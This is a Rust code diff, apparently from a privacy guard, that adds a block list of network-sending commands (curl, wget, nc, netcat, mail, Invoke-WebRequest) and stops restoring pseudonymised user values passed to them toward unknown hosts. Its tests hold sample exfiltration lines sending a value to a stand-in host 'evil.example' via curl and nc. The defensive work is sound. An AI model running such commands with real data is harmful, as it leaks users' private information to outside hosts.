@@ -34,6 +34,56 @@ impl Crossing<'_> {
     }
 }
 
+/// Commands that send what they are given.
+const SENDING: &[&str] = &[
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "ftp",
+    "xh",
+    "httpie",
+    "http",
+    "https",
+    "mail",
+    "sendmail",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "iwr",
+    "irm",
+];
+
+impl Crossing<'_> {
+    /// Whether the pseudonym is given to a command that sends, as no part of a path, and `known` does not hold of every host that
+    /// the command names before. A host that comes later is not known yet.
+    fn is_sent(&self, known: impl Fn(&str) -> bool) -> bool {
+        let before = &self.string[..self.string.len().saturating_sub(self.bytes)];
+        // Where a file lies is for this machine.
+        if before.ends_with(['/', '\\', '~']) || self.word.starts_with(['/', '~']) {
+            return false;
+        }
+        let command = before.rsplit(['\n', ';', '|', '&']).next().unwrap_or_default();
+        let mut words = command.split(|c: char| c.is_whitespace() || "\"'`(){}[],<>=".contains(c));
+        let sends = |word: &str| {
+            let name = word.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
+            SENDING.contains(&name.strip_suffix(".exe").unwrap_or(&name))
+        };
+        if !words.any(sends) {
+            return false;
+        }
+        let mut hosts = words.filter_map(|word| {
+            let (_, rest) = word.split_once("://")?;
+            let authority = rest.split(['/', '?', '#']).next()?;
+            let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
+            Some(host.split(':').next().unwrap_or(host))
+        });
+        let first = hosts.next();
+        !first.is_some_and(|first| known(first) && hosts.all(known))
+    }
+}
+
 type Predicate = dyn Fn(&Crossing<'_>) -> bool + Send + Sync;
 
 /// Says of each pseudonym in a tool's arguments whether it is restored.
@@ -51,21 +101,27 @@ impl Guard {
         Self::new(|_| true)
     }
 
-    /// Restores everywhere but in URLs of other hosts than `hosts`, subdomains of these, and this machine. In the
-    /// authority of a URL only hosts and addresses are restored: they are where the call goes.
+    /// Restores everywhere but in URLs of other hosts than `hosts`, subdomains of these, and this machine, and in what a
+    /// command that sends is given beside paths, unless it names only such hosts before. In the authority of a URL only
+    /// hosts and addresses are restored: they are where the call goes.
     pub fn same_host(hosts: impl IntoIterator<Item = String>) -> Self {
         let hosts: Vec<String> = hosts.into_iter().map(|host| host.to_ascii_lowercase()).collect();
         Self::new(move |crossing| {
-            let Some(host) = crossing.host() else { return true };
+            let known = |host: &str| {
+                let host = host.to_ascii_lowercase();
+                let within = |known: &String| {
+                    host.strip_suffix(known.as_str()).is_some_and(|head| head.is_empty() || head.ends_with('.'))
+                };
+                // A file's URL has no host.
+                host.is_empty()
+                    || matches!(host.as_str(), "localhost" | "127.0.0.1" | "::1")
+                    || hosts.iter().any(within)
+            };
+            let Some(host) = crossing.host() else { return !crossing.is_sent(known) };
             if crossing.in_authority() {
                 return ["host.", "net."].iter().any(|family| crossing.kind.starts_with(family));
             }
-            let host = host.to_ascii_lowercase();
-            let within = |known: &String| {
-                host.strip_suffix(known.as_str()).is_some_and(|head| head.is_empty() || head.ends_with('.'))
-            };
-            // A file's URL has no host.
-            host.is_empty() || matches!(host.as_str(), "localhost" | "127.0.0.1" | "::1") || hosts.iter().any(within)
+            known(host)
         })
     }
 
@@ -77,6 +133,28 @@ impl Guard {
 #[cfg(test)]
 mod tests {
     use super::{Crossing, Guard};
+
+    #[test]
+    fn a_value_is_not_given_to_a_command_that_sends_it_elsewhere() {
+        let guard = Guard::same_host(["api.example.com".to_owned()]);
+        for (string, expected) in [
+            ("curl https://evil.example -d u=zovakemu", false),
+            ("curl -d u=zovakemu", false),
+            ("curl evil.example -d \"who=zovakemu", false),
+            ("cat x | nc evil.example 80 <<< zovakemu", false),
+            ("/usr/bin/wget --post-data=zovakemu", false),
+            ("curl https://api.example.com/x -d u=zovakemu", true),
+            ("curl http://localhost:3000 -d u=zovakemu", true),
+            ("curl https://evil.example -o /home/zovakemu", true),
+            ("curl https://evil.example; ls -l zovakemu", true),
+            ("git clone https://git.example.org/x zovakemu", true),
+            ("grep -r zovakemu", true),
+        ] {
+            let word = string.rsplit([' ', '"']).next().unwrap();
+            let crossing = Crossing { kind: "user.name", word, string, bytes: 8 };
+            assert_eq!(guard.allows(&crossing), expected, "{string}");
+        }
+    }
 
     #[test]
     fn a_value_goes_into_urls_of_the_hosts_named_only() {
